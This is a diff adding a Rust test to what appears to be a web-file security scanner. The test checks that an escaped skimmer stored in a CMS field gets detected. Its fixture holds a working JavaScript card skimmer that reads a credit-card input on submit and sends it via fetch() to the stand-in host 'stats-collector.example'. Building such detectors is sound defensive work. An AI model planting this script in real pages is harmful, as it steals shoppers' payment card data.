@@ -256,3 +256,26 @@ fn pathologically_deep_html_hits_the_parse_budget_instead_of_stalling() {
     );
     assert!(t.elapsed() < Duration::from_secs(60), "{:?}", t.elapsed());
 }
+
+#[test]
+fn database_escaped_markup_is_unescaped_and_analysed() {
+    // Skimmers stored in a CMS field arrive with escaped quotes; the shop unescapes them when
+    // it renders the page, so they run and must be analysed.
+    let dir = tempfile::tempdir().unwrap();
+    let p = dir.path().join("footer.html");
+    std::fs::write(
+        &p,
+        r#"<html><body><form><input name="cc_number" autocomplete="cc-number"></form>
+<script type=\"text/javascript\">document.addEventListener(\'submit\',function(){var v=document.getElementById(\'cc_number\').value;fetch(\'https://stats-collector.example/c?d=\'+btoa(v));});</script></body></html>"#,
+    )
+    .unwrap();
+    let (code, report, _) = scan_json(&[p.to_str().unwrap()]);
+    assert_eq!(code, 1, "{report:#}");
+    let f = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "payment-data-exfiltration")
+        .unwrap_or_else(|| panic!("{report:#}"));
+    assert_eq!(f["hosts"][0], "stats-collector.example");
+}
